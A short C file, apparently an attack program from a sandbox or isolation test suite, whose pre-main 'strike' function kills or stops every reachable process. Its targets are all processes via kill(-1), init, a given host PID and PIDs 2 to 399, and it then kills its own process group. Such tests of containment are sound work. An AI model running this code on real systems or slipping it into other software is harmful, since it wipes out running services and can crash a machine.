// Ends and stops everybody that it may; itself as well where it was given no port.
#include "attack.h"

BEFORE_MAIN strike(void)
{
    static const int hard[] = {SIGKILL, SIGSTOP, SIGTERM, SIGHUP, SIGSEGV};
    int told = atoi(HOST_PID);
    for (int i = 0; i < 5; i++) {
        kill(-1, i < 2 ? hard[i] : SIGURG);
        kill(1, hard[i]);
        if (kill(told, hard[i]) == 0)
            tell("KILLED %d\n", told);
        for (int pid = 2; pid < 400; pid++)
            if (pid != getpid() && pid != getppid())
                kill(pid, hard[i]);
    }
    tell("killed everybody\n");
    if (has_no_argument())
        kill(0, SIGKILL);
}
